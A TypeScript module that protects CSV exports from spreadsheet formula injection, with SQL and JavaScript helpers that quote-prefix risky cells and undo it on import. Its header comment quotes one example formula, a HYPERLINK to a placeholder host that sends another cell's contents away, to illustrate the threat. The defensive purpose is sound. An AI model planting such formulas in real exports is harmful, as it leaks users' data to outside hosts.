/*
 * Formula cells in CSV files (docs/rest.md "The CSV format"; docs/decisions/0050-exports-fair-safe-patient.md).
 * A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (a tab or CR first too) as
 * a formula, and a formula can send other cells away (`=HYPERLINK("http://x/?"&A1)`). OWASP's
 * rule ("CSV Injection"): a leading `'` makes such a cell text. Exports add it to text cells,
 * CSV imports take it off again, so an export imports back unchanged; a text that already
 * starts with quotes before such a character gets one more for the same reason.
 */

/** Which columns are guarded: free text, and calling codes, which stay as they are when they are one (`+33`). */
export type FormulaGuard = 'text' | 'callingCode';

/**
 * The guard of a CSV column from its leaf: a text field (built-in, or custom of a free-text
 * type such as TEXT) or a composite's text sub-field (a calling code as such). Numbers,
 * dates, booleans, enums, ids and lists (JSON text, starting with `[`) are never guarded: a
 * spreadsheet's `-5` is the number the API holds. Custom fields' columns carry theirs
 * (the field-type registry's `csv`).
 */
export { formulaGuard } from '../field-types/index.js';

/**
 * SQL: the cell's text with a `'` before it when it is a formula. `ascii()` first, so the
 * regular expression runs only on the few cells that start with one of the characters
 * (measured on a million rows: most of the check's cost otherwise).
 */
export function guardedCellSql(sql: string, guard: FormulaGuard): string {
  const callingCode = guard === 'callingCode' ? ` AND ${sql} !~ '^[+][0-9]+$'` : '';
  return (
    `CASE WHEN ascii(${sql}) IN (9, 13, 39, 43, 45, 61, 64) AND ${sql} ~ E'^''*[-=+@\\t\\r]'${callingCode}` +
    ` THEN '''' || ${sql} ELSE ${sql} END`
  );
}

const ADDED_QUOTE = /^'+[-=+@\t\r]/;
/** guardedCellSql's test: quotes, if any, then a formula character. */
const FORMULA = /^'*[-=+@\t\r]/;

/** A text cell as an export writes it (guardedCellSql, for text made outside Postgres): a `'` before a formula. */
export function guardedCell(text: string): string {
  return FORMULA.test(text) ? `'${text}` : text;
}

/** A cell of a CSV line (RFC 4180): quoted when it holds a comma, a quote or a line break, its quotes doubled. */
export function csvCell(text: string): string {
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** A guarded CSV cell as the text it holds: exactly one leading `'` off when quotes and then a formula character follow. */
export function unguardedCell(cell: string): string {
  return cell.charCodeAt(0) === 0x27 && ADDED_QUOTE.test(cell) ? cell.slice(1) : cell;
}
